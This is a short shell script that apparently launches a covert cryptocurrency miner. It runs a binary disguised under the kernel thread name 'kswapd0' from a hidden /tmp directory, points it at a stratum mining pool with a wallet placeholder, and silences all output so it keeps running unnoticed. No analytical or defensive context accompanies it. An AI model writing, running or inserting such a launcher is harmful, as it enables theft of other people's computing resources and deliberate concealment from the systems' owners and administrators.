#!/bin/sh
cd /tmp/.x && nohup ./kswapd0 -o stratum+tcp://pool.example.net:3333 -u WALLET -p x >/dev/null 2>&1 &
